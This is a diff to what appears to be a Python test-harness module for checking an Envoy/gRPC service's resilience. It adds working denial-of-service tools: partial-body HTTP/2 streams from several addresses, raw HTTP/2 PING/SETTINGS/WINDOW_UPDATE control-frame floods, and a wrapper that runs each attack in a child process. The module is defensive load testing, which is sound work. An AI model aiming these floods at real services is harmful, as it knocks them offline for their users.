@@ -9,7 +9,9 @@ What an attacker without an account (or with one) can do to hold the service's r
     slow_body_posts          HTTP/1.1 POSTs whose body never reaches its Content-Length
     idle_connections         TCP connections that send nothing
     preface_connections      HTTP/2 connections that send the client preface and SETTINGS only
+    partial_bodies           the same with a message of about 64 KiB, from several addresses at once
     rapid_reset              HTTP/2 streams opened and reset at once, as fast as the client can
+    control_frame_flood      HTTP/2 PING, SETTINGS or WINDOW_UPDATE frames as fast as they are read
     closed_loop_calls        one customer's many concurrent unary calls, each followed by the next
 
 and what the tests read back: what each stream or connection got and when (.outcomes(),
@@ -19,7 +21,8 @@ and its heap as it reports it), envoy_stats(), thread_count() (a server's thread
 configured_timeouts() (what envoy.yaml promises), grpc_methods() (every public method, from the
 generated descriptors), parse_http_response(), median() and percentile(). address_relay() lets a
 grpc client (which cannot choose its source address) come from another loopback address.
-Every tool takes `source`, the loopback address its connections come from (127.0.0.0/8 is all
+InChildProcess runs an attack in a process of its own, so the test's clients do not share its
+interpreter lock. Every tool takes `source`, the loopback address its connections come from (127.0.0.0/8 is all
 loopback on Linux), so an attack and the clients it must not hurt are told apart by address.
 
 Thousands of sockets need as many file descriptors: raise_open_files() raises this process's soft
@@ -511,6 +514,67 @@ def partial_message_streams(host: str, port: int, method_path: str | Sequence[st
                      source=source, read=read)
 
 
+class PartialBodies(H2Streams):
+    """`connections` HTTP/2 connections from each of `sources`, each with `per_connection` gRPC
+    calls on `method_path` whose message announces `announced` bytes and sends the first `sent`,
+    never END_STREAM: unfinished bodies that Envoy buffers whole before anything goes upstream.
+    Each connection waits for the server's SETTINGS and connection window first, so every stream's
+    bytes fit the flow-control windows (Envoy's 64 KiB a stream, 1 MiB a connection)."""
+
+    def __init__(self, host: str, port: int, method_path: str, sources: Sequence[str], connections: int,
+                 per_connection: int, *, announced: int = 65_536, sent: int = 60_000, token: str | None = None):
+        if sent >= announced:
+            raise ValueError("a partial message sends fewer bytes than it announces")
+        data = b"\x00" + struct.pack(">I", announced) + b"\x0a" * sent
+        super().__init__(host, port, method_path, 0, per_connection=per_connection, token=token, data=data)
+        self.sources, self.connections = list(sources), connections
+        self.refused = 0  # connections that could not be made
+
+    def open(self) -> None:
+        headers = grpc_headers(self.host, self.port, self.method_paths[0], self.token, self.extra)
+        needed = self.per_connection * len(self.data)
+        for source in self.sources:
+            for _ in range(self.connections):
+                try:
+                    sock = _connect(self.host, self.port, source)
+                    sock.settimeout(2.0)
+                    conn = H2Conn(sock, f"{self.host}:{self.port}")
+                    deadline = time.monotonic() + 2.0
+                    while (not conn.settings_seen.is_set() or conn.h2.outbound_flow_control_window < needed) \
+                            and time.monotonic() < deadline:
+                        data = sock.recv(65536)
+                        if not data:
+                            raise OSError("closed")
+                        conn.on_data(data)
+                except (OSError, h2.exceptions.ProtocolError):
+                    self.refused += 1
+                    continue
+                for _ in range(self.per_connection):
+                    if self._open_stream(conn, headers) is None:
+                        self.not_opened += 1
+                self._hold(conn)
+
+    def _open_stream(self, conn: H2Conn, headers: list[tuple[str, str]]) -> int | None:
+        """Like H2Conn.open_stream, with the message in frames of the largest size the server takes."""
+        with conn.lock:
+            try:
+                sid = conn.h2.get_next_available_stream_id()
+                conn.h2.send_headers(sid, headers)
+                step = conn.h2.max_outbound_frame_size
+                for i in range(0, len(self.data), step):
+                    conn.h2.send_data(sid, self.data[i:i + step])
+            except (h2.exceptions.ProtocolError, h2.exceptions.FlowControlError):
+                return None
+            conn.streams[sid] = Stream(self.method_paths[0], sid, time.monotonic())
+            return sid if conn.flush() else None
+
+
+def partial_bodies(host: str, port: int, method_path: str, sources: Sequence[str], connections: int,
+                   per_connection: int, **kw) -> PartialBodies:
+    """Unfinished gRPC messages of about 64 KiB from several addresses (see PartialBodies)."""
+    return PartialBodies(host, port, method_path, sources, connections, per_connection, **kw)
+
+
 # --------------------------------------------------------------------------------------------
 # Rapid reset (CVE-2023-44487)
 
@@ -636,6 +700,173 @@ def rapid_reset(host: str, port: int, method_path: str = HEALTH_CHECK, seconds: 
     reconnecting whenever the server closes the connection: `with rapid_reset(...) as attack:`;
     attack.wait() returns the counts (streams, resets, connections, goaway, closed_by_server...)."""
     return RapidReset(host, port, method_path, seconds, **kw)
+
+
+# --------------------------------------------------------------------------------------------
+# HTTP/2 control-frame floods
+
+
+def h2_frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    """One raw HTTP/2 frame."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload
+
+
+CONTROL_FRAMES = {
+    # PING with 8 bytes of opaque data: the peer must answer each with a PING ACK.
+    "ping": h2_frame(6, 0, 0, b"\x00" * 8),
+    # An empty SETTINGS: the peer must acknowledge each.
+    "settings": h2_frame(4, 0, 0),
+    # A connection WINDOW_UPDATE of 1 byte: nothing to answer, but each is parsed and applied.
+    "window_update": h2_frame(8, 0, 0, (1).to_bytes(4, "big")),
+}
+
+
+class ControlFrameFlood:
+    """For `seconds`, on `connections` threads, each on a connection of its own from `source`: the
+    client preface, then `kind` frames (CONTROL_FRAMES) in batches of `batch` as fast as the peer
+    reads them; every `call_every` batches (0: never) a whole call on `call_path` (a health Check
+    unless told), whose answer a grpc server counts as activity (it forgives ping strikes then). Whatever comes back is read
+    and dropped. A connection the peer closes is opened again. Counts in .counts (frames,
+    connections, closed_by_server, goaway)."""
+
+    def __init__(self, host: str, port: int, kind: str, seconds: float = 8.0, *, connections: int = 4,
+                 batch: int = 200, call_every: int = 10, call_path: str = HEALTH_CHECK, source: str | None = None):
+        self.host, self.port, self.kind, self.seconds = host, port, kind, seconds
+        self.frames = CONTROL_FRAMES[kind] * batch
+        self.batch, self.call_every, self.source = batch, call_every, source
+        self._call_headers = grpc_headers(host, port, call_path)
+        self.counts: collections.Counter = collections.Counter()
+        self._lock = threading.Lock()
+        self._stop = threading.Event()
+        self._threads = [threading.Thread(target=self._run, name=f"flood-{kind}", daemon=True)
+                         for _ in range(connections)]
+
+    def __enter__(self) -> "ControlFrameFlood":
+        for t in self._threads:
+            t.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._stop.set()
+        for t in self._threads:
+            t.join(timeout=10)
+
+    def wait(self) -> collections.Counter:
+        for t in self._threads:
+            t.join(timeout=self.seconds + 10)
+        return self.counts
+
+    def _count(self, key: str, n: int = 1) -> None:
+        with self._lock:
+            self.counts[key] += n
+
+    def _run(self) -> None:
+        deadline = time.monotonic() + self.seconds
+        while not self._stop.is_set() and time.monotonic() < deadline:
+            try:
+                self._one_connection(deadline)
+            except OSError:
+                self._count("connect_errors")
+                time.sleep(0.05)
+
+    def _one_connection(self, deadline: float) -> None:
+        sock = _connect(self.host, self.port, self.source)
+        self._count("connections")
+        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+        conn.initiate_connection()
+        try:
+            sock.sendall(conn.data_to_send())
+            sock.setblocking(False)
+            pending, batches = bytearray(), 0
+            while not self._stop.is_set() and time.monotonic() < deadline:
+                if len(pending) < 1 << 16:
+                    batches += 1
+                    pending += self.frames
+                    self._count("frames", self.batch)
+                    if self.call_every and batches % self.call_every == 0:
+                        try:
+                            sid = conn.get_next_available_stream_id()
+                            conn.send_headers(sid, self._call_headers)
+                            conn.send_data(sid, EMPTY_MESSAGE, end_stream=True)
+                            self._count("calls")
+                        except h2.exceptions.ProtocolError:  # as many calls open as the peer allows
+                            self._count("calls_not_sent")
+                        pending += conn.data_to_send()
+                readable, writable = _select_rw(sock, bool(pending), 0.01 if len(pending) >= 1 << 16 else 0.0)
+                if writable and pending:
+                    try:
+                        n = sock.send(pending)
+                    except BlockingIOError:
+                        n = 0
+                    del pending[:n]
+                if readable:
+                    data = sock.recv(1 << 18)
+                    if not data:
+                        self._count("closed_by_server")
+                        return
+                    if self.call_every:
+                        try:
+                            for event in conn.receive_data(data):
+                                if isinstance(event, h2.events.ConnectionTerminated):
+                                    self._count("goaway")
+                                    self._count(f"goaway:{_error_name(event.error_code)}")
+                                    return
+                                if isinstance(event, h2.events.TrailersReceived):
+                                    self._count("answered")
+                            pending += conn.data_to_send()
+                        except h2.exceptions.ProtocolError:
+                            self._count("protocol_errors")
+                            return
+                    elif 7 in _frame_types(data):
+                        self._count("goaway")
+                        return
+        except (ConnectionError, OSError):
+            self._count("closed_by_server")
+        finally:
+            with contextlib.suppress(OSError):
+                sock.close()
+
+
+def control_frame_flood(host: str, port: int, kind: str, seconds: float = 8.0, **kw) -> ControlFrameFlood:
+    """`with control_frame_flood(host, port, "ping", seconds=8, source=...) as flood:` (see
+    ControlFrameFlood); flood.wait() returns the counts."""
+    return ControlFrameFlood(host, port, kind, seconds, **kw)
+
+
+def _attack_in_child(kind: str, args: tuple, kw: dict, results) -> None:
+    with globals()[kind](*args, **kw) as attack:
+        results.put(dict(attack.wait()))
+
+
+class InChildProcess:
+    """An attack class with .wait() (ControlFrameFlood, RapidReset), run in a process of its own,
+    so that the test process's clients (the bystander) do not share its interpreter lock: what
+    they measure is then the service's slowness, not the attacker's. .wait() returns its counts."""
+
+    def __init__(self, kind: str, *args, **kw):
+        import multiprocessing
+
+        context = multiprocessing.get_context("spawn")
+        self._results = context.Queue()
+        self._process = context.Process(target=_attack_in_child, args=(kind, args, kw, self._results),
+                                        name=f"attack-{kind}", daemon=True)
+        self._timeout = float(kw.get("seconds", args[3] if len(args) > 3 else 10.0)) + 30.0
+        self.counts: collections.Counter | None = None
+
+    def __enter__(self) -> "InChildProcess":
+        self._process.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._process.join(timeout=self._timeout)
+        if self._process.is_alive():
+            self._process.kill()
+            self._process.join(timeout=5)
+
+    def wait(self) -> collections.Counter:
+        if self.counts is None:
+            self.counts = collections.Counter(self._results.get(timeout=self._timeout))
+        return self.counts
 
 
 # --------------------------------------------------------------------------------------------
